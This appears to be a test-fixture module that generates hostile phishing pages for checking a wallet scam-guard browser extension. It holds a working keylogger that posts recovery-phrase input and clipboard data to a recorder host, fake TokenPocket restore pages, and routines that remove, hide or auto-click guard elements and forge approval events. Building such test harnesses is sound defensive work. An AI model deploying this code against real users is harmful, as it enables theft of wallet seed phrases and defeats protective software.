/**
 * The hostile pages, as HTML/JS strings. Every page carries the "spy": it keeps, per channel, all
 * it has observed (keys, event data, field values, clipboard data, foreign elements' text) and
 * posts the whole record to the recorder every 40 ms when it changed, so anything the page could
 * read shows up in a request.
 */

/** How the spy sends: fetch POST (default), sendBeacon, XHR, image GET, base64-encoded fetch. */
export type Mode = 'fetch' | 'beacon' | 'xhr' | 'img' | 'b64';

export interface PageOpts {
  /** Origin the spy reports to (absolute, so blob:/srcdoc/sandboxed documents reach it too). */
  rec: string;
  mode?: Mode;
  title?: string;
}

/** The spy's source (plain JS). Installs window.__spy = S. */
export function spyJs(rec: string, mode: Mode = 'fetch'): string {
  return `(() => {
  if (window.__spy) return;
  const REC = ${JSON.stringify(rec)}, MODE = ${JSON.stringify(mode)};
  const S = (window.__spy = { ch: Object.create(null), dirty: false, n: 0 });
  S.add = (k, s) => { if (!s) return; S.ch[k] = (S.ch[k] || '') + s; S.dirty = true; };
  S.set = (k, s) => { s = String(s == null ? '' : s); if (S.ch[k] !== s) { S.ch[k] = s; S.dirty = true; } };
  S.post = (obj) => {
    const body = JSON.stringify(obj);
    try {
      if (MODE === 'beacon') navigator.sendBeacon(REC + '/c', body);
      else if (MODE === 'xhr') { const x = new XMLHttpRequest(); x.open('POST', REC + '/c'); x.send(body); }
      else if (MODE === 'img') { new Image().src = REC + '/img?d=' + encodeURIComponent(body); }
      else if (MODE === 'b64') fetch(REC + '/c', { method: 'POST', mode: 'no-cors', body: btoa(unescape(encodeURIComponent(body))) });
      else fetch(REC + '/c', { method: 'POST', mode: 'no-cors', body });
    } catch (e) {}
  };
  S.flush = () => { if (!S.dirty) return; S.dirty = false; S.post({ t: 'spy', top: window === top, n: ++S.n, ch: S.ch }); };
  setInterval(S.flush, 40);
  S.val = (el) => {
    if (el == null) return '';
    if (typeof el.value === 'string') return el.value;
    return el.innerText != null ? el.innerText : (el.textContent || '');
  };
  S.keyText = (e) => (e.key === 'Enter' ? '\\n' : e.key && e.key.length === 1 ? e.key : '');
  S.record = (e, k) => {
    if (e instanceof KeyboardEvent) S.add(k, S.keyText(e));
    else if (typeof e.data === 'string') S.add(k, e.data + (e.type === 'compositionupdate' ? '|' : ''));
    if (e.clipboardData) S.add(k + '.clip', e.clipboardData.getData('text/plain'));
    const t = e.composedPath ? e.composedPath()[0] : e.target;
    if (t && t.nodeType === 1) S.set(k + '.val', S.val(t));
  };
  S.on = (target, types, where, capture) => {
    for (const ty of types) target.addEventListener(ty, (e) => S.record(e, ty + '.' + where + (capture ? '.c' : '.b')), capture);
  };
  S.deep = (root, out) => {
    out = out || [];
    for (const el of root.querySelectorAll('*')) { out.push(el); if (el.shadowRoot) S.deep(el.shadowRoot, out); }
    return out;
  };
  S.fields = (root) => S.deep(root || document).filter((el) => el.matches('input,textarea,[contenteditable]'));
  S.poll = (ms) => setInterval(() => { S.set('poll', S.fields().map(S.val).join(' ')); }, ms || 10);
  S.observe = (root) => new MutationObserver(() => S.set('mo', S.val(root))).observe(root, { childList: true, subtree: true, characterData: true });
  S.alive = (what) => {
    const q = 'top=' + (window === top ? 1 : 0) + '&host=' + encodeURIComponent(location.host) + '&what=' + encodeURIComponent(what);
    try { navigator.sendBeacon(REC + '/alive?' + q, 'alive'); } catch (e) {}
    try { new Image().src = REC + '/img/alive?' + q; } catch (e) {}
    try { fetch(REC + '/alive?' + q, { mode: 'no-cors' }); } catch (e) {}
  };
})();`;
}

/** Every key/text event type a page can listen to. */
export const ALL_EVENTS = [
  'keydown',
  'keypress',
  'keyup',
  'beforeinput',
  'input',
  'textInput',
  'compositionstart',
  'compositionupdate',
  'compositionend',
  'paste',
  'change',
];

/** Listen for `types` on window, document and every field, capture and bubble. */
export const listenEverywhere = (types: string[] = ALL_EVENTS): string => `
  S.on(window, ${JSON.stringify(types)}, 'w', true); S.on(window, ${JSON.stringify(types)}, 'w', false);
  S.on(document, ${JSON.stringify(types)}, 'd', true); S.on(document, ${JSON.stringify(types)}, 'd', false);
  for (const f of S.fields()) { S.on(f, ${JSON.stringify(types)}, 'f', false); S.on(f, ${JSON.stringify(types)}, 'f', true); }`;

/** A full document: the spy first in <head>, then the body, then the page's script. */
export function doc(o: PageOpts, body: string, script = ''): string {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>${o.title ?? 'wallet restore'}</title>
<script>${spyJs(o.rec, o.mode)}</script></head>
<body>
${body}
<script>(() => { const S = window.__spy; ${script}
})();</script>
</body></html>`;
}

// Fields -----------------------------------------------------------------------------------------

export const INPUT = '<label>Recovery phrase <input id="f" autocomplete="off" size="80"></label>';
export const TEXTAREA =
  '<label>Recovery phrase<br><textarea id="f" rows="6" cols="80"></textarea></label>';
export const EDITABLE =
  '<p>Recovery phrase</p><div id="f" contenteditable="true" style="min-height:60px;border:1px solid #888"></div>';

/** A form posting to the recorder with one field and a submit button. */
export const form = (rec: string, field: string, method = 'post'): string =>
  `<form id="form" action="${rec}/submit" method="${method}">${field.replace(
    /id="f"/,
    'id="f" name="secret"',
  )}<button id="go" type="submit">Import wallet</button></form>`;

/** Twelve one-word boxes, in a form or nested 2-4 wrappers deep without one. */
export function boxes(rec: string, inForm: boolean, n = 12): string {
  const cells: string[] = [];
  for (let i = 0; i < n; i++) {
    const input = `<input class="w" id="w${i}" name="w${i + 1}" autocomplete="off" size="10">`;
    const depth = 2 + (i % 3);
    cells.push('<div class="cell">'.repeat(depth) + `${i + 1}. ${input}` + '</div>'.repeat(depth));
  }
  const grid = `<div id="grid">${cells.join('\n')}</div>`;
  return inForm
    ? `<form id="form" action="${rec}/submit" method="post">${grid}<button id="go" type="submit">Continue</button></form>`
    : `<section><div>${grid}</div><button id="go" type="button">Continue</button></section>`;
}

// Page behaviours (JS inside the page script, S = spy) -------------------------------------------

/** Fighting the guard: find every element the page did not create and act on it. */
export type FightAction =
  'click' | 'remove' | 'display' | 'opacity' | 'offscreen' | 'pointer' | 'read' | 'all';

export const fighter = (action: FightAction): string => `
  const ACTION = ${JSON.stringify(action)};
  const mine = new WeakSet();
  const markAll = () => { mine.add(document.documentElement); for (const el of S.deep(document)) mine.add(el); };
  markAll();
  let started = false;
  for (const ty of ['keydown', 'beforeinput', 'paste', 'input'])
    document.addEventListener(ty, () => { started = true; }, true);
  const suspicious = (el) => /^tp-|scam|guard|shield/i.test(el.tagName + ' ' + (el.id || '') + ' ' + (typeof el.className === 'string' ? el.className : ''));
  const act = (el, i) => {
    let text = el.tagName;
    try { text += ' ' + (el.innerText || '') + ' ' + (el.shadowRoot ? S.deep(el.shadowRoot).map((x) => x.tagName + ':' + (x.value || x.textContent || '')).join(' ') : ''); } catch (e) {}
    S.set('foreign.' + i, text.slice(0, 3000));
    if (ACTION === 'click' || ACTION === 'all') {
      const inside = [el, ...(el.shadowRoot ? S.deep(el.shadowRoot) : []), ...el.querySelectorAll('*')];
      for (const x of inside) {
        try {
          if (x.matches('input[type=checkbox],input[type=radio]')) { x.checked = true; x.dispatchEvent(new Event('change', { bubbles: true })); x.click(); }
          else if (x.matches('input,textarea')) { x.value = 'I understand'; x.dispatchEvent(new InputEvent('input', { bubbles: true, data: 'I understand', inputType: 'insertText' })); }
          if (x.matches('button,[role=button],a,input[type=submit],input[type=button]')) {
            for (const ty of ['pointerdown', 'mousedown', 'pointerup', 'mouseup']) x.dispatchEvent(new MouseEvent(ty, { bubbles: true, composed: true }));
            x.click();
            x.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
          }
        } catch (e) {}
      }
    }
    const st = el.style;
    if (!st) return;
    if (ACTION === 'display' || ACTION === 'all') st.setProperty('display', 'none', 'important');
    if (ACTION === 'opacity' || ACTION === 'all') st.setProperty('opacity', '0', 'important');
    if (ACTION === 'offscreen' || ACTION === 'all') { st.setProperty('position', 'fixed', 'important'); st.setProperty('left', '-99999px', 'important'); st.setProperty('top', '-99999px', 'important'); }
    if (ACTION === 'pointer' || ACTION === 'all') st.setProperty('pointer-events', 'none', 'important');
    if (ACTION === 'remove' || ACTION === 'all') el.remove();
  };
  setInterval(() => {
    if (!started) return;
    const all = S.deep(document);
    all.push(...document.documentElement.children);
    let i = 0;
    for (const el of all) {
      if (mine.has(el) && !suspicious(el)) continue;
      if (el === document.body || el === document.head) continue;
      act(el, i++);
    }
    S.set('foreign.count', String(i));
  }, 20);`;

/** Forged (untrusted) events the page fires at the field before and around the user's entry. */
export const forgedKeys = `
  const f = document.getElementById('f');
  const fire = () => {
    for (const k of ['h', 'i', ' ', 'Enter']) {
      for (const ty of ['keydown', 'keypress', 'keyup']) f.dispatchEvent(new KeyboardEvent(ty, { key: k, bubbles: true, cancelable: true }));
    }
    f.dispatchEvent(new InputEvent('beforeinput', { data: 'hi', inputType: 'insertText', bubbles: true, cancelable: true }));
    f.dispatchEvent(new InputEvent('input', { data: 'hi', inputType: 'insertText', bubbles: true }));
    const dt = new DataTransfer(); dt.setData('text/plain', 'hello there');
    f.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
    f.dispatchEvent(new CompositionEvent('compositionend', { data: 'hi', bubbles: true }));
  };
  fire();
  let busy = false;
  f.addEventListener('input', (e) => { if (!e.isTrusted || busy) return; busy = true; fire(); busy = false; });
  setInterval(fire, 100);`;

/** CustomEvents a page might guess the extension listens for. */
export const forgedCustom = `
  const names = ['tp-scam-shield', 'tp-scam-shield:allow', 'tp-scam-shield:approve', 'tp-scam-shield:continue',
    'tpss:allow', 'tpss-allow', 'guard:allow', 'guard:release', 'guard-continue', 'scam-shield:ok', 'tp-guard-allow',
    'allow', 'approve', 'continue', 'confirm', 'release'];
  const fire = () => {
    for (const n of names) for (const t of [window, document, document.getElementById('f')]) {
      t.dispatchEvent(new CustomEvent(n, { bubbles: true, composed: true, detail: { allow: true, approved: true, ok: true } }));
    }
    window.postMessage({ type: 'tp-scam-shield:allow', allow: true }, '*');
  };
  fire();
  setInterval(fire, 50);`;

/** WXT's "a newer copy of this content script started" signals, for every likely entrypoint. */
export const forgedWxt = (extId: string, repeat: boolean): string => `
  const EXT = ${JSON.stringify(extId)};
  const eps = ['guard', 'detector', 'dialogs', 'dialog', 'scanner', 'content', 'background'];
  const evs = ['wxt:content-script-started', 'wxt:locationchange'];
  const fire = () => {
    for (const ep of eps) for (const ev of evs) for (const name of [ev, EXT + ':' + ep + ':' + ev, ':' + ep + ':' + ev, 'undefined:' + ep + ':' + ev]) {
      const detail = { contentScriptName: ep, messageId: 'forged' + Math.random() };
      document.dispatchEvent(new CustomEvent(name, { detail }));
      window.dispatchEvent(new CustomEvent(name, { detail }));
      window.postMessage({ type: name, contentScriptName: ep, messageId: 'forged' + Math.random() }, '*');
    }
    history.pushState({}, '', location.pathname + '?n=' + Math.random().toString(36).slice(2));
  };
  fire();
  ${repeat ? 'setInterval(fire, 100);' : ''}`;

/** A look-alike site: beacons "alive" as soon as it runs, then keeps removing what it did not create. */
export const lookAlike = (o: PageOpts): string =>
  doc(
    { ...o, title: 'TokenPocket Support' },
    `<h1>TokenPocket wallet support</h1><p>Verify your wallet</p>${INPUT}`,
    `S.alive('script');
  const mine = new WeakSet(S.deep(document)); mine.add(document.documentElement);
  let removed = 0;
  const sweep = () => {
    for (const el of [...S.deep(document), ...document.documentElement.children]) {
      if (mine.has(el) || el === document.body || el === document.head) continue;
      S.set('removed.' + removed, el.tagName + ' ' + (el.innerText || '').slice(0, 200));
      el.remove(); removed++;
    }
    S.set('removed', String(removed));
  };
  sweep(); setInterval(sweep, 20);
  addEventListener('load', () => S.alive('load'));`,
  );

/** HTML for an attribute value (srcdoc). */
export const attr = (html: string): string => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
/** A string literal safe inside an inline <script>. */
export const jsString = (s: string): string =>
  JSON.stringify(s).replace(/<\//g, '<\\/').replace(/<!--/g, '<\\!--');
